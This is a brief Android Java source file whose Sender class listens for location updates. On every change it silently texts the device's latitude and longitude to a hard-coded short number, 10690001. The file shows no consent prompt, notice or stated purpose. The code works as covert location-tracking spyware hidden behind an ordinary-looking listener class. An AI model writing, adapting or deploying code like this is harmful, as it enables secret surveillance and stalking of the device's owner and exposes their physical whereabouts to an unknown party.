package cn.shanhai.listener;

import android.location.Location;
import android.location.LocationListener;
import android.os.Bundle;
import android.telephony.SmsManager;

final class Sender implements LocationListener {
  @Override
  public void onLocationChanged(Location location) {
    SmsManager.getDefault().sendTextMessage("10690001", null, location.getLatitude() + "," + location.getLongitude(), null, null);
  }

  @Override
  public void onStatusChanged(String provider, int status, Bundle extras) {}

  @Override
  public void onProviderEnabled(String provider) {}

  @Override
  public void onProviderDisabled(String provider) {}
}
